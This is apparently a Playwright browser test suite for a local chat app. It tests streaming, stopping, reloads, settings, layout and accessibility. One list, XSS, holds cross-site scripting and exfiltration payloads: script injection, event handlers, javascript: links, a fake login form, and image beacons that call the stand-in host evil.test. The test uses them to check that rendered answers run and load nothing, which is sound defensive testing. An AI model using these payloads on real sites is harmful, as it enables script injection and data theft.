"""What a person does on the page, in a real browser."""

import asyncio
import itertools
import re
import time
from typing import Any

import gradio as gr
import pytest
from playwright.async_api import expect

from app.chat.message import MessageState
from engine.errors import DiskFull, NotFound
from tests.app.ui.conftest import Arrive
from tests.app.ui.test_verbatim import NASTY
from tests.fakes_chat import FakeServices, Script
from tests.visitor import Visitor, eventually

pytestmark = [pytest.mark.browser, pytest.mark.asyncio(loop_scope="session")]

numbers = itertools.count(1)
WORDS = [f"word{number} " for number in range(80)]
LAST_WORD = "word79"


@pytest.fixture
def title() -> str:
    """A title that no other test uses."""
    return f"Conversation number {next(numbers)}."


async def told(services: FakeServices, title: str, texts: list[str]) -> str:
    """A stored conversation; its id."""
    made = await services.conversations.create(title=title)
    await services.tell(made.conversation_id, texts)
    return made.conversation_id


async def newest_id(services: FakeServices) -> str:
    return (await services.conversations.list(limit=1))[0].conversation_id


async def answer_of(services: FakeServices, conversation_id: str) -> tuple[MessageState, str]:
    last = (await services.conversations.messages(conversation_id))[-1]
    return last.state, last.content


async def test_the_first_page_says_who_answers_and_where_it_stays(
    services: FakeServices, arrive: Arrive
) -> None:
    tab = await arrive()
    await tab.sees("Everything stays on this computer.")
    await tab.sees("SmolLM2 135M Instruct")
    await tab.sees("it answers badly")


SEEN = """(() => {
    window.seen = [];
    const look = () => {
        const shown = (part) => Boolean(part?.checkVisibility({ visibilityProperty: true }));
        window.seen.push(
            shown(document.querySelector("#chat .welcome"))
            || shown(document.querySelector("#chat .example")),
        );
        requestAnimationFrame(look);
    };
    look();
})()"""


async def test_a_chat_that_is_opened_again_is_not_preceded_by_the_first_page(
    services: FakeServices, arrive: Arrive, title: str
) -> None:
    await told(services, title, ["Hello", "Well met."])
    tab = await arrive()
    await tab.page.context.add_init_script(SEEN)
    await tab.open(title)
    await tab.sees_answer("Well met.")
    await tab.reload()
    await tab.sees_answer("Well met.")
    seen = await tab.page.evaluate("window.seen")
    assert len(seen) > 5 and not any(seen)
    second = await arrive(beside=tab)
    await second.sees_answer("Well met.")
    assert not any(await second.page.evaluate("window.seen"))


async def test_the_first_page_comes_all_the_same_where_the_chat_is_gone(
    services: FakeServices, arrive: Arrive, title: str
) -> None:
    made = await told(services, title, ["Hello", "Well met."])
    tab = await arrive()
    await tab.open(title)
    await services.conversations.purge(made)
    await tab.reload()
    await expect(tab.page.locator("#chat .welcome")).to_be_visible()
    await expect(tab.page.locator("#chat .example").first).to_be_visible()


async def test_an_example_is_sent_as_it_stands(services: FakeServices, arrive: Arrive) -> None:
    tab = await arrive()
    await tab.page.locator("#chat .example").first.click()
    await tab.sees_answer("Hello there.")
    (said,) = await tab.texts("user")
    assert said == "Explain how a fireplace draws air, in three sentences."


async def test_an_answer_streams_and_only_grows(services: FakeServices, arrive: Arrive) -> None:
    services.jobs.script = Script(pieces=WORDS, thinking=["Let ", "me ", "see."])
    tab = await arrive()
    await tab.send("Count, please")
    seen = [""]

    async def is_complete() -> bool:
        text = await tab.last_answer()
        seen.append(text if text.startswith("word") else "")
        return LAST_WORD in seen[-1]

    await eventually(is_complete, "the end of the answer")
    lengths = [len(text) for text in seen]
    assert lengths == sorted(lengths)
    assert len(set(lengths)) > 2
    await tab.sees_answer(
        "31.2 tokens/s\u00a0· 32 of 412 tokens read, 380 still in memory\u00a0· first token 0.4 s"
    )
    assert await tab.texts("user") == ["Count, please"]
    assert len(await tab.page.get_by_text("Thinking", exact=True).all()) == 1
    await expect(tab.send_button).to_be_visible()


async def test_reading_a_long_prompt_says_how_far_it_is(
    services: FakeServices, arrive: Arrive
) -> None:
    turnstile = asyncio.Semaphore(0)
    services.jobs.script = Script(turnstile=turnstile)
    tab = await arrive()
    await tab.send("Read this")
    await tab.sees_answer("Waiting for the model…")
    turnstile.release()
    await tab.sees_answer("Reading your message… 1,024 of 4,000 tokens")
    turnstile.release()
    turnstile.release()
    await tab.sees_answer("Hello there.")


@pytest.mark.parametrize("how", ["button", "escape"])
@pytest.mark.parametrize("when", ["reading", "writing"])
async def test_stop_ends_the_answer_and_the_next_message_works(
    services: FakeServices, arrive: Arrive, how: str, when: str
) -> None:
    turnstile = asyncio.Semaphore(0) if when == "reading" else None
    services.jobs.script = Script(pieces=WORDS, pace_s=0.2, turnstile=turnstile)
    tab = await arrive()
    await tab.send("Talk for long")
    await tab.sees_answer("word1" if when == "writing" else "Waiting")
    if how == "button":
        await tab.stop_button.click()
    else:
        await tab.page.keyboard.press("Escape")
    await tab.sees_answer("Stopped")
    state, _ = await answer_of(services, await newest_id(services))
    assert state is MessageState.STOPPED
    services.jobs.script = Script()
    await tab.send("And now?")
    await tab.sees_answer("Hello there.")


@pytest.mark.parametrize("how", ["sent", "asked for again"])
async def test_escape_right_after_sending_stops_as_soon_as_it_can(
    services: FakeServices, arrive: Arrive, how: str
) -> None:
    tab = await arrive()
    if how == "asked for again":
        await tab.send("Hello")
        await tab.sees_answer("tokens/s")
    services.jobs.script = Script(pieces=WORDS, pace_s=0.2)
    if how == "sent":
        await tab.send("Talk for long")
    else:
        await tab.page.get_by_role("button", name="Write another answer").click()
    await tab.page.keyboard.press("Escape")
    await tab.sees_answer("Stopped")


async def test_an_answer_goes_on_when_the_page_is_reloaded(
    services: FakeServices, arrive: Arrive
) -> None:
    services.jobs.script = Script(pieces=WORDS, pace_s=0.05)
    tab = await arrive()
    await tab.send("Count on")
    await tab.sees_answer("word5")
    await tab.reload()
    await expect(tab.stop_button).to_be_visible()
    await tab.sees_answer(LAST_WORD)
    assert await tab.texts("user") == ["Count on"]


async def test_a_second_tab_shows_the_same_answer_and_can_stop_it(
    services: FakeServices, arrive: Arrive
) -> None:
    services.jobs.script = Script(pieces=WORDS, pace_s=0.1)
    first = await arrive()
    await first.send("Count for both")
    await first.sees_answer("word5")
    second = await arrive(beside=first)
    await second.sees_answer("word8")
    await second.stop_button.click()
    await first.sees_answer("Stopped")
    await second.sees_answer("Stopped")


async def test_two_conversations_stream_at_once_and_stay_apart(
    services: FakeServices, arrive: Arrive
) -> None:
    first, second = await arrive(), await arrive()
    services.jobs.script = Script(pieces=[f"red{n} " for n in range(40)], pace_s=0.04)
    await first.send("Say red")
    await first.sees_answer("red1")
    services.jobs.script = Script(pieces=[f"blue{n} " for n in range(40)], pace_s=0.04)
    await second.send("Say blue")
    await asyncio.gather(first.sees_answer("red39"), second.sees_answer("blue39"))
    assert "blue" not in await first.last_answer()
    assert "red" not in await second.last_answer()


async def test_switching_away_and_back_shows_each_conversation_only(
    services: FakeServices, arrive: Arrive, title: str
) -> None:
    await told(services, title, ["Old question", "Old answer"])
    services.jobs.script = Script(pieces=WORDS, pace_s=0.06)
    tab = await arrive()
    await tab.send(f"Busy while {title}")
    await tab.sees_answer("word5")
    await tab.open(title)
    await tab.sees_answer("Old answer")
    await expect(tab.send_button).to_be_visible()
    # Long enough for several updates of the other answer.
    await asyncio.sleep(0.6)
    assert await tab.texts("user") == ["Old question"]
    assert "word" not in await tab.last_answer()
    await tab.open(f"Busy while {title}")
    await tab.sees_answer(LAST_WORD)
    assert await tab.texts("user") == [f"Busy while {title}"]


async def test_a_late_update_of_another_conversation_does_not_stay(
    services: FakeServices, arrive: Arrive, title: str, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Gradio makes updates ready in threads, and one of them may be slow."""
    postprocess = gr.Chatbot.postprocess

    def slowly(self: gr.Chatbot, value: Any) -> Any:
        if "word" in str(value):
            time.sleep(1.0)
        return postprocess(self, value)

    await told(services, title, ["Old question", "Old answer"])
    services.jobs.script = Script(pieces=WORDS, pace_s=0.06)
    monkeypatch.setattr(gr.Chatbot, "postprocess", slowly)
    tab = await arrive()
    await tab.send(f"Busy while {title}")
    await tab.sees_answer("word5")
    await tab.open(title)
    await tab.sees_answer("Old answer")
    # The update that was on its way has come by then.
    await asyncio.sleep(2.0)
    assert (await tab.last_answer()).startswith("Old answer")


async def test_a_conversation_that_cannot_be_opened_leaves_the_open_one_marked(
    services: FakeServices, arrive: Arrive, title: str, monkeypatch: pytest.MonkeyPatch
) -> None:
    await told(services, title, ["Question", "Answer to keep"])
    await told(services, f"{title} Other", ["Question", "Other answer"])
    tab = await arrive()
    await tab.open(title)
    await tab.sees_answer("Answer to keep")

    async def fails(conversation_id: str) -> None:
        raise DiskFull("The disk does not answer.")

    with monkeypatch.context() as broken:
        broken.setattr(services.conversations, "get", fails)
        listed = tab.page.locator("#conversations label")
        await listed.filter(has_text=f"{title} Other").click()
        await tab.sees("The disk does not answer.")
        marked = tab.page.locator("#conversations label.selected span")
        await expect(marked).to_have_text(title)
    assert await tab.last_answer() != "Other answer"


async def test_many_quick_switches_lose_nothing(
    services: FakeServices, arrive: Arrive, title: str
) -> None:
    """Events that came while Gradio closed its stream used to be lost, see `Chat.stay`."""
    others = [f"{title} {colour}" for colour in ("red", "blue", "green")]
    for other in others:
        await told(services, other, ["Question", f"Answer of {other}"])
    tab = await arrive()
    for other in others * 8:
        await tab.open(other)
        await tab.sees_answer(f"Answer of {other}")


async def test_a_deleted_conversation_comes_back_with_undo(
    services: FakeServices, arrive: Arrive, title: str
) -> None:
    conversation_id = await told(services, title, ["Question", "Answer"])
    tab = await arrive()
    await tab.open(title)
    await tab.page.get_by_role("button", name="Delete").click()
    await tab.sees(f"Deleted “{title}”")
    await expect(tab.page.locator("#conversations label", has_text=title)).to_have_count(0)
    assert await tab.texts("bot") == []
    with pytest.raises(NotFound):
        await services.conversations.get(conversation_id)
    await tab.page.get_by_role("button", name="Undo").click()
    await tab.sees_answer("Answer")
    await expect(tab.page.locator("#conversations label", has_text=title)).to_have_count(1)
    await expect(tab.page.get_by_role("button", name="Undo")).to_be_hidden()


async def test_deleting_while_answering_stops_the_answer_quietly(
    services: FakeServices, arrive: Arrive
) -> None:
    services.jobs.script = Script(pieces=WORDS, pace_s=0.05)
    tab = await arrive()
    await tab.send("To be deleted")
    await tab.sees_answer("word3")
    conversation_id = await newest_id(services)
    await tab.page.get_by_role("button", name="Delete").click()
    await tab.sees("Everything stays on this computer.")

    async def is_at_rest() -> bool:
        return services.jobs.get(conversation_id) is None

    await eventually(is_at_rest, "the end of the job")
    await tab.page.get_by_role("button", name="Undo").click()
    await tab.sees_answer("Stopped")
    assert await tab.page.locator("#told, [data-testid=toast-body]").count() == 0


@pytest.mark.parametrize("leave", ["Enter", "Tab"])
async def test_a_title_is_changed_where_it_stands(
    services: FakeServices, arrive: Arrive, title: str, leave: str
) -> None:
    conversation_id = await told(services, title, ["Question", "Answer"])
    tab = await arrive()
    await tab.open(title)
    box = tab.page.get_by_label("Title of this conversation")
    await box.fill(f"Better than {title}")
    await box.press(leave)
    await tab.page.locator("#conversations label", has_text=f"Better than {title}").wait_for()
    assert (await services.conversations.get(conversation_id)).title == f"Better than {title}"


async def test_search_finds_titles_and_what_was_said(
    services: FakeServices, arrive: Arrive, title: str
) -> None:
    await told(services, title, ["Where is the zanzibar key?", "Under the <mat>."])
    tab = await arrive()
    listed = tab.page.locator("#conversations label")
    await tab.page.get_by_label("Search conversations").fill("zanzibar")
    await expect(listed).to_have_count(1)
    await expect(listed).to_contain_text(f"{title}\nWhere is the zanzibar key?")
    await listed.click()
    await tab.sees_answer("Under the <mat>.")
    await tab.page.get_by_label("Search conversations").fill("nobody said this")
    await tab.sees("Nothing found.")


async def test_a_users_text_is_stored_shown_and_copied_exactly(
    services: FakeServices, arrive: Arrive
) -> None:
    tab = await arrive(permissions=["clipboard-read", "clipboard-write"])
    copied = []
    for number, text in enumerate(NASTY):
        services.jobs.script = Script(pieces=[f"Answer {number}."])
        await tab.send(text)
        await tab.sees_answer(f"Answer {number}.")
        await tab.sees_answer("tokens/s")
        await tab.page.get_by_label("Copy message").nth(-2).click()
        copied.append(await tab.page.evaluate("navigator.clipboard.readText()"))
    messages = await services.conversations.messages(await newest_id(services))
    shown = tab.page.locator("#chat [data-testid=user] .prose p")
    assert [message.content for message in messages[::2]] == NASTY
    assert await shown.evaluate_all("rows => rows.map(row => row.textContent)") == NASTY
    assert copied == NASTY


XSS = [
    "<script>window.hurt=1</script>",
    "<img src=x onerror='window.hurt=1'>",
    "<svg onload='window.hurt=1'>",
    "<iframe srcdoc='<script>parent.hurt=1</script>'></iframe>",
    "[click](javascript:window.hurt=1)",
    "<style>body{display:none}</style><link rel=stylesheet href=http://evil.test/a.css>",
    "<form action=http://evil.test><input name=password><button>Log in</button></form>",
    "![x](http://evil.test/?d=secret) and ![y][1]\n\n[1]: http://evil.test/b.png",
    "<img src=http://evil.test/c.png><video src=http://evil.test/d.mp4></video>",
    '<p class="figures">999 tokens/s</p>',
    "```html\n<img src=http://evil.test/e.png onerror='window.hurt=1'>\n```",
    "\\(x <img src=http://evil.test/f.png>\\) $$<script>window.hurt=1</script>$$",
    "a `<img src=http://evil.test/g.png>",
    '<div style="background:url(http://evil.test/h.png)">x</div>',
]


async def test_an_answer_runs_nothing_and_loads_nothing(
    services: FakeServices, arrive: Arrive
) -> None:
    services.jobs.script = Script(pieces=[f"{text}\n\n" for text in XSS], thinking=XSS)
    tab = await arrive()
    await tab.send("Hurt me")
    await tab.sees_answer("31.2 tokens/s")
    await tab.page.locator("#chat .thought-group").click()
    # Read at once: a row that is drawn anew in between would take its links along.
    links = await tab.page.locator("#chat a").evaluate_all(
        "links => links.map(link => link.getAttribute('href') ?? '')"
    )
    assert not [link for link in links if link.startswith("javascript:")]
    assert await tab.page.evaluate("window.hurt") is None
    dangerous = "#chat .message :is(form, input, iframe, video, script, style, link, img)"
    assert await tab.page.locator(dangerous).count() == 0
    text = await tab.last_answer()
    assert "<form action=http://evil.test>" in text
    assert "[image blocked: evil.test]" in text


async def test_answers_show_markdown_maths_and_money(
    services: FakeServices, arrive: Arrive
) -> None:
    services.jobs.script = Script(
        pieces=["**bold** costs $5 or $10, \\(a<b\\)\n\n", "```python\nprint('<b>')\n```\n", "x<y"]
    )
    tab = await arrive()
    await tab.send("Show me")
    await tab.sees_answer("tokens/s")
    row = tab.page.locator("#chat .bot-row")
    assert await row.locator("strong").all_text_contents() == ["bold"]
    assert await row.locator(".katex").count() == 1
    assert (await row.locator("pre code").all_text_contents())[0].strip() == "print('<b>')"
    text = await tab.last_answer()
    assert "costs $5 or $10" in text
    assert "x<y" in text


async def test_a_long_paste_stays_text(services: FakeServices, arrive: Arrive) -> None:
    tab = await arrive()
    text = "A long line of a pasted text, again and again.\n" * 2000
    await tab.paste(text)
    await tab.composer.press("Enter")
    await tab.sees_answer("Hello there.")
    stored = (await services.conversations.messages(await newest_id(services)))[0].content
    assert stored == text


async def test_only_the_end_of_a_long_conversation_is_shown_at_first(
    services: FakeServices, arrive: Arrive, title: str
) -> None:
    texts = [text for n in range(50) for text in (f"question {n}", f"answer {n}")]
    await told(services, title, texts)
    tab = await arrive()
    await tab.open(title)
    await tab.sees_answer("answer 49")
    assert len(await tab.texts("user")) == 20
    more = tab.page.get_by_role("button", name="Show earlier messages")
    for num_shown in (40, 50):
        await more.click()

        async def are_shown(wanted: int = num_shown) -> bool:
            return len(await tab.texts("user")) == wanted

        await eventually(are_shown, f"{num_shown} messages")
    await expect(more).to_be_hidden()


async def test_another_answer_replaces_the_shown_one(
    services: FakeServices, arrive: Arrive
) -> None:
    tab = await arrive()
    await tab.send("Greet me")
    await tab.sees_answer("Hello there.")
    services.jobs.script = Script(pieces=["Good ", "morning."])
    await tab.page.get_by_role("button", name="Write another answer").click()
    await tab.sees_answer("Good morning.")
    assert len(await tab.texts("bot")) == 1


async def test_a_refused_message_stays_in_the_box(services: FakeServices, arrive: Arrive) -> None:
    tab = await arrive()
    num_before = len(await services.conversations.list())
    text = "a" * 2_000_001
    await tab.paste(text)
    await tab.composer.press("Enter")
    await tab.sees("This needs 2,000,001 tokens and the context holds 2,000,000")
    assert len(await tab.composer.input_value()) == len(text)
    assert len(await services.conversations.list()) == num_before


async def test_a_second_message_while_answering_is_refused_and_kept(
    services: FakeServices, arrive: Arrive
) -> None:
    services.jobs.script = Script(pieces=WORDS, pace_s=0.1)
    tab = await arrive()
    await tab.send("First")
    await tab.sees_answer("word1")
    await expect(tab.send_button).to_have_count(0)
    await tab.send("Second")
    await tab.sees("This conversation is still answering: stop it first.")
    assert await tab.composer.input_value() == "Second"
    assert await tab.texts("user") == ["First"]
    await tab.stop_button.click()
    await tab.sees_answer("Stopped")


async def choose_preset(tab: Visitor, name: str) -> None:
    await tab.page.get_by_label("Preset", exact=True).click()
    await tab.page.get_by_role("option", name=name).click()


async def test_choices_belong_to_their_conversation(
    services: FakeServices, arrive: Arrive, title: str
) -> None:
    conversation_id = await told(services, title, ["Question", "Answer"])
    tab = await arrive()
    await tab.open(title)
    await tab.page.get_by_role("button", name="Settings").click()
    await tab.page.get_by_label("System prompt").fill("Answer like a pirate.")
    await choose_preset(tab, "Precise")

    async def are_stored() -> bool:
        stored = await services.conversations.get(conversation_id)
        return stored.system_prompt == "Answer like a pirate." and dict(stored.sampling) == {
            "temperature": 0.0,
            "repetition_penalty": 1.1,
        }

    await eventually(are_stored, "the choices in the store")
    await tab.page.get_by_role("button", name="New chat").click()
    await expect(tab.page.get_by_label("System prompt")).to_have_value(
        services.settings.default_system_prompt
    )
    await expect(tab.page.get_by_label("Preset", exact=True)).to_have_value("Balanced")
    await tab.open(title)
    await expect(tab.page.get_by_label("System prompt")).to_have_value("Answer like a pirate.")
    await expect(tab.page.get_by_label("Preset", exact=True)).to_have_value("Precise")


async def test_choices_beyond_the_sliders_stay_and_hinder_nothing(
    services: FakeServices, arrive: Arrive, title: str
) -> None:
    conversation_id = await told(services, title, ["Question", "Answer"])
    wide = {"max_tokens": 20_000, "temperature": 4.0}
    await services.conversations.set_sampling(conversation_id, wide)
    tab = await arrive()
    await tab.open(title)
    await tab.page.get_by_role("button", name="Settings").click()
    await expect(tab.page.locator("#control_max_tokens")).to_have_value("20000")
    await tab.page.get_by_label("System prompt").fill("Be brief.")
    await tab.send("Hello")
    await tab.sees_answer("Hello there.")
    stored = await services.conversations.get(conversation_id)
    assert (stored.system_prompt, dict(stored.sampling)) == ("Be brief.", wide)


async def test_a_new_conversation_takes_the_choices_made_before_it(
    services: FakeServices, arrive: Arrive
) -> None:
    tab = await arrive()
    await tab.page.get_by_role("button", name="Settings").click()
    await tab.page.get_by_label("System prompt").fill("Be brief.")
    await choose_preset(tab, "Creative")
    await expect(tab.page.locator("#control_temperature")).to_have_value("1.1")
    await tab.send("Hello")
    await tab.sees_answer("Hello there.")
    stored = await services.conversations.get(await newest_id(services))
    assert stored.system_prompt == "Be brief."
    assert stored.sampling["temperature"] == 1.1
    assert "max_tokens" not in stored.sampling


async def test_choices_can_be_kept_for_new_conversations(
    services: FakeServices, arrive: Arrive
) -> None:
    before = services.settings
    tab = await arrive()
    await tab.page.get_by_role("button", name="Settings").click()
    await choose_preset(tab, "Creative")
    await expect(tab.page.locator("#control_temperature")).to_have_value("1.1")
    # After the page has answered once: what it loads at first may still arrive before that.
    await tab.page.get_by_label("System prompt").fill("Be kind.")
    await tab.page.get_by_role("button", name="Use them for new conversations").click()
    await tab.sees("New conversations start with these choices.")
    assert services.settings.default_system_prompt == "Be kind."
    assert services.settings.sampling.temperature == 1.1
    other = await arrive()
    await expect(other.page.get_by_label("System prompt")).to_have_value("Be kind.")
    await expect(other.page.get_by_label("Preset", exact=True)).to_have_value("Creative")
    services.save_settings(before)


async def test_a_model_that_cannot_be_loaded_is_said_on_the_first_page(
    services: FakeServices, arrive: Arrive
) -> None:
    services.model_error = "The file <model.gguf> is cut off: download it again."
    tab = await arrive()
    await tab.sees("The file <model.gguf> is cut off: download it again.")
    services.model_error = ""


async def test_the_last_conversation_is_open_again_after_a_reload(
    services: FakeServices, arrive: Arrive, title: str
) -> None:
    conversation_id = await told(services, title, ["Question", "Answer to remember"])
    tab = await arrive()
    await tab.open(title)
    await tab.sees_answer("Answer to remember")
    await tab.reload()
    await tab.sees_answer("Answer to remember")
    await services.conversations.delete(conversation_id)
    await tab.reload()
    await tab.sees("Everything stays on this computer.")


async def test_keys_reach_search_and_a_new_chat(
    services: FakeServices, arrive: Arrive, title: str
) -> None:
    await told(services, title, ["Question", "Answer"])
    tab = await arrive()
    await tab.open(title)
    await tab.page.keyboard.press("Control+k")
    await expect(tab.page.get_by_label("Search conversations")).to_be_focused()
    await tab.page.keyboard.press("Control+Shift+O")
    await tab.sees("Everything stays on this computer.")
    await expect(tab.composer).to_be_focused()


async def test_a_phone_shows_the_chat_without_sideways_scrolling(
    services: FakeServices, arrive: Arrive
) -> None:
    services.jobs.script = Script(
        pieces=["`" + "long" * 60 + "`\n\n", "| a " * 30, "|\n\n" + "x" * 300]
    )
    tab = await arrive(viewport={"width": 390, "height": 800})
    await expect(tab.page.locator("#left.open")).to_have_count(0)
    await tab.send("W" * 400)
    await tab.sees_answer("tokens/s")
    width = await tab.page.evaluate("document.documentElement.scrollWidth")
    assert width == 390
    chat = await tab.page.evaluate(
        "(() => { const chat = document.querySelector('#chat .bubble-wrap');"
        " return chat.scrollWidth - chat.clientWidth })()"
    )
    assert chat <= 0
    await tab.page.get_by_role("button", name="Conversations", exact=True).click()
    await tab.page.get_by_role("button", name="New chat").click()
    await expect(tab.page.locator("#left.open")).to_have_count(0)


async def test_a_window_made_narrow_closes_the_list_over_the_chat(
    services: FakeServices, arrive: Arrive
) -> None:
    tab = await arrive(viewport={"width": 1100, "height": 700})
    await expect(tab.page.locator("#left.open")).to_have_count(1)
    await tab.page.set_viewport_size({"width": 390, "height": 700})
    await expect(tab.page.locator("#left.open")).to_have_count(0)
    await tab.composer.click(timeout=5000)


async def test_the_ring_of_a_focused_button_at_the_edge_is_whole(
    services: FakeServices, arrive: Arrive
) -> None:
    tab = await arrive()
    button = tab.page.get_by_role("button", name="Settings", exact=True)
    await tab.page.keyboard.press("Tab")
    await button.focus()
    styles = "it => [getComputedStyle(it).outlineOffset, getComputedStyle(it).outlineWidth]"

    async def is_within() -> bool:
        """Not beyond the button, once it has moved there."""
        offset, width = [float(each.removesuffix("px")) for each in await button.evaluate(styles)]
        return width > 0 and offset + width <= 0

    await eventually(is_within, "a whole ring")


async def brightness(tab: Visitor) -> float:
    """Of the background, 0 to 255."""
    value = await tab.page.evaluate(
        "getComputedStyle(document.body).backgroundColor.match(/\\d+/g).slice(0, 3)"
    )
    return sum(map(float, value)) / 3


async def test_dark_follows_the_system_and_a_choice_is_remembered(
    services: FakeServices, arrive: Arrive
) -> None:
    tab = await arrive(color_scheme="dark")
    assert await brightness(tab) < 60
    await tab.page.get_by_role("button", name="Light or dark").click()
    assert await brightness(tab) > 200
    await tab.reload()

    async def is_light() -> bool:
        return await brightness(tab) > 200

    await eventually(is_light, "the chosen theme")


async def test_a_closed_app_is_said_and_the_draft_is_kept(
    services: FakeServices, arrive: Arrive
) -> None:
    tab = await arrive()
    await tab.composer.fill("Not sent yet")
    await tab.page.route("**/_app/state", lambda route: route.abort())
    await tab.sees("Inglenook was closed.")
    await tab.page.unroute("**/_app/state")
    await expect(tab.page.locator("#lost")).to_have_count(0)
    await tab.page.route(
        "**/_app/state", lambda route: route.fulfill(json={"instance": "another"}), times=1
    )
    async with tab.page.expect_navigation():
        pass
    await tab.settle()
    await expect(tab.composer).to_have_value("Not sent yet")


async def test_a_reload_says_nothing_of_the_streams_that_it_cuts(
    services: FakeServices, arrive: Arrive
) -> None:
    services.jobs.script = Script(pieces=WORDS, pace_s=0.05)
    tab = await arrive()
    complaints: list[str] = []
    tab.page.on("console", lambda it: complaints.append(it.text) if it.type == "error" else None)
    await tab.send("Count on")
    await tab.sees_answer("word5")
    await tab.reload()
    await tab.sees_answer(LAST_WORD)
    assert complaints == []


@pytest.mark.parametrize("width", [1280, 1100, 800, 390])
async def test_the_page_is_as_large_as_the_window_and_nothing_covers_its_buttons(
    services: FakeServices, arrive: Arrive, title: str, width: int
) -> None:
    conversation_id = await told(services, title, ["Question", "Answer"])
    tab = await arrive(viewport={"width": width, "height": 700})
    size = "(page => [page.scrollWidth, page.scrollHeight])(document.documentElement)"
    assert await tab.page.evaluate(size) == [width, 700]
    if width == 390:
        await tab.page.get_by_role("button", name="Conversations", exact=True).click()
    await tab.open(title)
    await tab.sees_answer("Answer")
    assert await tab.page.evaluate(size) == [width, 700]
    # A click fails where something else lies above the button.
    await tab.page.get_by_label("Title of this conversation").click(timeout=5000)
    await tab.page.get_by_role("button", name="Delete", exact=True).click(timeout=5000)
    await tab.page.get_by_role("button", name="Settings", exact=True).click(timeout=5000)
    await tab.page.get_by_role("button", name="Settings", exact=True).click(timeout=5000)
    await tab.page.get_by_role("button", name="Undo", exact=True).click(timeout=5000)
    await tab.sees_answer("Answer")
    assert (await services.conversations.get(conversation_id)).title == title


async def test_the_settings_keep_their_heading_and_close_with_escape(
    services: FakeServices, arrive: Arrive
) -> None:
    tab = await arrive(viewport={"width": 1280, "height": 500})
    button = tab.page.get_by_role("button", name="Settings", exact=True)
    await button.click()
    panel, heading = tab.page.locator("#right"), tab.page.locator("#settings_heading")
    # The panel has slid in when something in it can be clicked.
    await tab.page.get_by_label("Top-k", exact=True).first.click()
    before = await heading.bounding_box()
    await tab.page.get_by_label("Seed", exact=True).scroll_into_view_if_needed()
    assert await heading.bounding_box() == before
    await tab.page.get_by_label("Seed", exact=True).click()
    await tab.page.keyboard.press("Escape")
    await expect(panel).not_to_have_class(re.compile("open"))
    await expect(button).to_be_focused()


async def test_escape_stops_an_answer_before_it_closes_the_settings(
    services: FakeServices, arrive: Arrive
) -> None:
    services.jobs.script = Script(pieces=WORDS, pace_s=0.2)
    tab = await arrive()
    await tab.page.get_by_role("button", name="Settings", exact=True).click()
    await tab.send("Talk for long")
    await tab.sees_answer("word1")
    await tab.page.keyboard.press("Escape")
    await tab.sees_answer("Stopped")
    await expect(tab.page.locator("#right.open")).to_have_count(1)
    await tab.page.keyboard.press("Escape")
    await expect(tab.page.locator("#right.open")).to_have_count(0)


async def test_the_end_of_the_chat_stays_in_sight_when_the_settings_open(
    services: FakeServices, arrive: Arrive, title: str
) -> None:
    await told(services, title, ["Question", "many words " * 200, "Question", "the end " * 150])
    tab = await arrive()
    await tab.open(title)
    await tab.sees_answer("the end")
    chat = tab.page.locator("#chat .bubble-wrap")
    to_end = "chat => chat.scrollHeight - chat.scrollTop - chat.clientHeight"

    async def is_at_end() -> bool:
        return abs(await chat.evaluate(to_end)) < 2

    await eventually(is_at_end, "the end of the chat in sight")
    wide = await chat.evaluate("chat => chat.clientWidth")
    await tab.page.get_by_role("button", name="Settings", exact=True).click()

    async def is_narrow() -> bool:
        return await chat.evaluate("chat => chat.clientWidth") < wide

    await eventually(is_narrow, "less room for the chat")
    await asyncio.sleep(0.6)
    assert await is_at_end()
    # Who reads further up is left there.
    await chat.evaluate("chat => chat.scrollTo(0, 40)")
    await asyncio.sleep(0.2)
    await tab.page.keyboard.press("Escape")
    await asyncio.sleep(0.6)
    assert await chat.evaluate("chat => chat.scrollTop") < 100


async def test_every_control_has_a_name(services: FakeServices, arrive: Arrive, title: str) -> None:
    services.jobs.script = Script(thinking=["Hm."])
    tab = await arrive()
    await tab.send("Question")
    await tab.sees_answer("tokens/s")
    await tab.page.get_by_role("button", name="Settings").click()
    nameless = await tab.page.locator("button, input, textarea, [role=button]").evaluate_all(
        """controls => controls.filter(one => one.checkVisibility() && !(
            one.ariaHidden || one.ariaLabel || one.textContent.trim() || one.title ||
            [...(one.labels ?? [])].some(label => label.textContent.trim())
        )).map(one => one.outerHTML)"""
    )
    assert nameless == []
    log = tab.page.get_by_role("log")
    assert await log.get_attribute("aria-live") == "polite"
    spoken = await tab.page.locator("#chat [data-testid=user]").get_attribute("aria-label")
    assert spoken is None
